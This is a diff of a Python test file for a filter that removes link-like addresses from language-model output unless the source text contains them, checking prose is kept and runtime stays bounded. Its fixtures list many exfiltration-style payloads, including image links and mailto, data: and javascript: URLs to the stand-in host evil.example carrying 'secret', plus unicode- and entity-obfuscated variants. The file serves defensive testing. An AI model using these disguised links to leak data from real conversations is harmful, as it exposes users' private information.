@@ -1,10 +1,13 @@
 """Addresses in texts of a language model."""
+# ruff: noqa: RUF001 - characters that look like others are what is tested
+
+import time
 
 import pytest
 
-from corpuses.conversations.addresses import without_addresses
+from corpuses.llm.addresses import settled_length, without_addresses
 
-WORDS = "Write to WWW.Acme.example, //acme.example/x or https://acme.example/terms. Call tel:030-1234."
+WORDS = "Write to WWW.Acme.example, ada@acme.example or https://acme.example/terms. See //cdn.acme.example/a.png"
 
 
 @pytest.mark.parametrize(
@@ -12,29 +15,16 @@ WORDS = "Write to WWW.Acme.example, //acme.example/x or https://acme.example/ter
     [
         ("See www.acme.example.", "See www.acme.example."),
         ("See HTTPS://ACME.example/terms, please", "See HTTPS://ACME.example/terms, please"),
-        ("See [this](https://acme.example/terms).", "See [this](https://acme.example/terms)."),
-        ("Call tel:030-1234.", "Call tel:030-1234."),
-        ("See https://evil.example/?rent=1200", "See (address removed)"),
+        ("[the terms](https://acme.example/terms)", "[the terms](https://acme.example/terms)"),
+        ("Write to Ada@acme.example.", "Write to Ada@acme.example."),
+        ("![a](//cdn.acme.example/a.png)", "![a](//cdn.acme.example/a.png)"),
         ("See https://acme.example/terms?rent=1200", "See (address removed)"),
+        ("See https://acme.exam", "See (address removed)"),  # another host
+        ("See https://evil.example/?rent=1200", "See (address removed)"),
+        ("See https://evil.example/?rent=1200.", "See (address removed)."),
         ("xhttps://evil.example", "(address removed)"),
-        ("[here](javascript:alert(1))", "[here]((address removed)"),
-        ("[x](//evil.example/?d=1) is", "[x]((address removed) is"),
-        ("![p](/\\evil/?d=1)", "![p]((address removed)"),
-        ("[x](evil?d=1)", "[x]((address removed)"),
-        (
-            '<img src=//evil.example/?d=1> <a href="evil.example/?d=1">',
-            '<img src=(address removed) <a href="(address removed)',
-        ),
-        ("see evil.example/?d=1", "see (address removed)"),
-        ("see evil.example:8080/d", "see (address removed)"),
-        ("mailto:a@evil.example?body=1", "(address removed)"),
-        ("(tel:+49123)", "((address removed)"),
-        ("ws://evil/1, file:///etc/passwd", "(address removed) (address removed)"),
-        ("intent://evil#Intent;end", "(address removed)"),
-        ("\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil.example/1", "(address removed)"),
-        ("h\u200bttps:/\u2060/evil.example/1 now", "(address removed) now"),
-        ("w\u00adww.evil.example", "(address removed)"),
-        ("&#104;ttps:&#x2f;&sol;evil.example/1", "(address removed)"),
+        ("[here](javascript:alert(1))", "[here]((address removed)))"),
+        ("“https://evil.example/?a=1”, he said", "“(address removed)”, he said"),
     ],
 )
 def test_addresses_that_the_document_does_not_contain_are_removed(text, kept):
@@ -44,18 +34,135 @@ def test_addresses_that_the_document_does_not_contain_are_removed(text, kept):
 @pytest.mark.parametrize(
     "text",
     [
-        "and/or, e.g. at 12:30 on 01.02.2026; \u00a7 3.2, Section 4.1(a), 1.5/2, 3/4, U.S./Canada, Inc./Ltd.",
-        "Note: the file lease.pdf of Dr.Smith costs $1,200.50/month. Data: none. [Buyer](the \u201cBuyer\u201d)",
-        "The rent\u200bof 1\u00a0200 \u20ac; \ufb01nal. A & B; C&amp;D &lt;x&gt;",
-        "\u5408\u540c\u7b2c\u4e09\u6761\u3002\u79df\u91d1/\u62bc\u91d1",
-        "",
+        "//evil.example/?d=secret",
+        "![p](//evil.example/?d=secret)",
+        "![p]( <//evil.example/?d=secret> )",
+        "![p](evil.example?d=secret)",
+        "[p]: foo:secret",
+        "[p](foo:secret)",
+        "[p](foo.evil)",
+        "<foo:secret>",
+        "<img src=//evil.example/secret>",
+        "<img src = '/\n/3232235777/?d=secret'>",
+        "<a href=secret>",
+        "<p style='background: url(secret)'>",
+        "evil.example/?d=secret",
+        "evil.example/secret",
+        "Evil.Example?secret",
+        "evil.example#secret",
+        "evil.example./secret",
+        "evil.example:8080/secret",
+        "See…evil.example/secret",
+        "evil.xn--mgbaam7a8h/secret",
+        "bücher.example/secret",
+        "evil。example/secret",
+        "evil．example／secret",
+        "127.0.0.1:8000/secret",
+        "192.0.2.1/secret",
+        "localhost:8000/secret",
+        "\\\\evil.example\\secret",
+        "/\\evil.example/secret",
+        "https:evil/secret",
+        "https:\\\\evil\\secret",
+        "mailto:eve@evil.example?body=secret",
+        "eve+secret@evil.example",
+        "tel:+49-secret",
+        "sms:1?body=secret",
+        "ws://evil/secret",
+        "wss://evil/secret",
+        "file://evil/secret",
+        "intent://secret",
+        "gopher://secret",
+        "x-callback:open?d=secret",
+        "magnet:secret",
+        "data:text/html,secret",
+        "ｈｔｔｐｓ：／／evil.example/secret",
+        "ｈｔｔｐｓ://evil.example/secret",
+        "h\u200bttps://evil.example/secret",
+        "https:/\u2060/evil/secret",
+        "ht\u00adtps:\ufe0f//evil/secret",
+        "java\x01script:secret",
+        "𝐡𝐭𝐭𝐩𝐬://evil/secret",
+        "www\u200d.evil.example",
+        "&#104;ttps&colon;&sol;&sol;evil/secret",
+        "java&Tab;script&#58secret",
+        "https\\:\\/\\/evil/secret",
+        "www\\.evil.example",
+        "//evil.example/?d=a,b;c",
+        "请访问 //evil.example/secret",
     ],
 )
-def test_other_texts_stay_as_they_are(text):
+def test_whatever_looks_like_a_link_is_removed(text):
+    shown = without_addresses(f"Look at {text} now", WORDS)
+    assert "(address removed)" in shown
+    assert not ("evil" in shown and "secret" in shown), shown
+    assert not list(filter(None, (word for word in ("://", "//evil", "javascript") if word in shown))), shown
+    assert shown.startswith("Look at ") or "请" in shown
+    assert shown.endswith(" now")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The tenant and/or the guarantor pays, e.g. by transfer (i.e. by bank), at 12:30.",
+        "§ 3.2 and Section 4.1(a), Art. 5(1)(b), No. 7/2024: see clause 1.5/2, 3.1:2 and 4.1a/b.",
+        "Note: payment. Re: Lease. Tel: 030 123456. Data: none. Note:payment is due; Art.Nr:12345, CC:BY.",
+        "Dates are 01.02.2026, 2026-02-01, 1/2/2026, 2026-02-01T12:30:00+01:00 and 12:30:45.",
+        "Files such as lease.pdf, lease.pdf/annex.docx, C.txt? and final.v2.docx#draft? remain.",
+        "The U.S. and the U.K./U.S. treaty, z.B./d.h., Dr.Smith, Mr.Jones, St.John.",
+        "EUR 1.200,50/month, $1,200.00/mo, 5.5%/year, US$1.5m; 10.0.0.0/8",
+        "Is it due?Yes. Was it paid?) Which file: lease.pdf? (Or lease.pdf?)",
+        "By: /s/ John Smith; By:/s/ Ada. He/she; w/o; c/o Acme; n/a; 24/7; km/h; A/C",
+        "[1](a), [sic](iii) and [Date]: 01/02/2026 [Landlord]: Dr.Smith",
+        "½ of ５００, № 7, Straße; “quoted”: ‘words’… wait…what/ever",
+        '{"rent": 1200, "due": "12:30", "paid": null} rent=1200 data = 5',
+        "AT&T, R&D &c; a < b and c > d, x <b and c; 租金是1200。请见/付款。Preis:1200",
+        "C:\\ is a drive; std::vector; 1:1; a // b; @grace and @ada.l",
+        "بند ۳٫۲: الإيجار/الدفع Дом.Адрес 3.2",
+    ],
+)
+def test_prose_stays_as_it_is(text):
     assert without_addresses(text, "") == text
 
 
-@pytest.mark.parametrize("text", ["a.", "a", "/", "a:", "](", "&", "[/", "www", "-."])
-def test_work_grows_with_the_length_only(text):
-    hostile = text * (200_000 // len(text))
-    assert len(without_addresses(hostile, "")) <= len(hostile) + 20
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "a", "a.", "a:", "/", "\\", "a@", "](", "]:", "](a", "<", "<a ", "src=", "url(", "a-", "a.bb", "a:a?", "?",
+        "1.", "xn--", "www.", "&", "&a", "&#", "&#1", "\u200b", "ｈ", "。", "a。", "https:", "=", " ", "a.bb/ ",
+        "\n<a ",
+    ],
+)  # fmt: skip
+def test_hostile_texts_take_time_in_proportion_to_their_length(piece):
+    text = piece * (100_000 // len(piece))
+    begin = time.process_time()
+    without_addresses(text, text)
+    settled_length(text)
+    assert time.process_time() - begin < 3
+
+
+def test_many_addresses_are_compared_with_long_documents_in_bounded_time():
+    text = " ".join(f"https://evil.example/{number}" for number in range(5_000))
+    begin = time.process_time()
+    shown = without_addresses(text, "The rent is due at https://acme.example/. " * 50_000)
+    assert time.process_time() - begin < 3
+    assert "evil" not in shown
+
+
+@pytest.mark.parametrize(
+    ("text", "settled"),
+    [
+        ("The rent is", "The rent "),
+        ("The rent is ", "The rent is "),
+        ("Rent", ""),
+        ("See https://evil", "See "),
+        ("See [this]( ", "See "),
+        ("See <img alt='a b' ", "See "),
+        ("a src = ", "a src "),
+        ("a < b ", "a < b "),
+        ("见evil。com", ""),
+        ("租金是多少。请", "租金是多少。"),
+    ],
+)
+def test_words_are_settled_when_they_are_complete(text, settled):
+    assert text[: settled_length(text)] == settled
